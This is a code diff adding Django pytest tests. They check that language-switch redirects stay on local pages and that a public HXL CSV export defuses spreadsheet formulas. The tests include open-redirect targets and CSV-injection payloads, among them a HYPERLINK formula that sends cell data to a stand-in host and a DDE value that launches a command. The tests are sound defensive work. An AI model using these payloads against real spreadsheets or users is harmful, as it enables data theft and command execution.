@@ -10,6 +10,7 @@ from zoneinfo import ZoneInfo
 
 import pytest
 import time_machine
+from django.conf import settings
 from django.contrib.staticfiles import finders
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
@@ -163,6 +164,20 @@ def test_language_follows_the_browser_and_the_switcher_keeps_filters(client):
     assert '<html lang="kk">' in client.get("/?family=on").content.decode()
 
 
+@pytest.mark.parametrize("back", ["x", "0", "//evil.example", "/\\evil.example"])
+def test_the_language_switchers_go_back_to_local_pages_only(client, back):
+    """The public link (GET) and the logged-in pages' form (POST) follow the same rule."""
+    assert client.get("/language/ru/", {"next": back})["Location"] == "/"
+    posted = client.post(reverse("set_language"), {"language": "kk", "next": back})
+    assert (posted.status_code, posted["Location"]) == (302, "/")
+    assert posted.cookies[settings.LANGUAGE_COOKIE_NAME].value == "kk"
+    kept = client.post(reverse("set_language"), {"language": "kk", "next": "/meals/?x=1"})
+    assert kept["Location"] == "/meals/?x=1"
+    unknown = client.post(reverse("set_language"), {"language": "xx", "next": "/about/"})
+    assert unknown["Location"] == "/about/"
+    assert settings.LANGUAGE_COOKIE_NAME not in unknown.cookies
+
+
 def test_first_load_is_under_30_kb_compressed_with_no_other_host(client):
     for index in range(40):
         _shelter(
@@ -291,6 +306,25 @@ def test_hxl_csv_has_the_hashtag_row_and_the_figures(client):
     assert record["#geo+lat"] == "51.2"
     assert "#adm2+name" in tags and "#date+updated" in tags
     assert header[0] == "id"
+
+
+def test_hxl_csv_defuses_formulas_in_names_and_addresses(client):
+    """A spreadsheet opening the public file must not run a cell someone typed."""
+    _shelter('=HYPERLINK("http://evil.example/?"&A1,"Click")', 10, address="@SUM(1+1)")
+    _shelter("+cmd|' /C calc'!A0", 10, address="-2+3", district="\tTab")
+    _shelter("Cinema Park", 10, address="Dostyk 1", latitude="-33.5", longitude="-70.6")
+    rows = list(csv.reader(io.StringIO(client.get("/api/v1/shelters.csv").content.decode())))
+    records = [dict(zip(rows[1], row, strict=True)) for row in rows[2:]]
+    cells = {
+        (r["#loc+name"], r["#loc+address"]) for r in records if r["#loc+name"] != "Cinema Park"
+    }
+    assert cells == {
+        ('\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"),
+        ("'+cmd|' /C calc'!A0", "'-2+3"),
+    }
+    assert next(r["#adm3+name"] for r in records if r["#loc+name"].startswith("'+")) == "'\tTab"
+    plain = next(r for r in records if r["#loc+name"] == "Cinema Park")
+    assert (plain["#loc+address"], plain["#geo+lat"]) == ("Dostyk 1", "-33.5")  # numbers stay
 
 
 def test_version_changes_when_figures_change(client, django_capture_on_commit_callbacks):
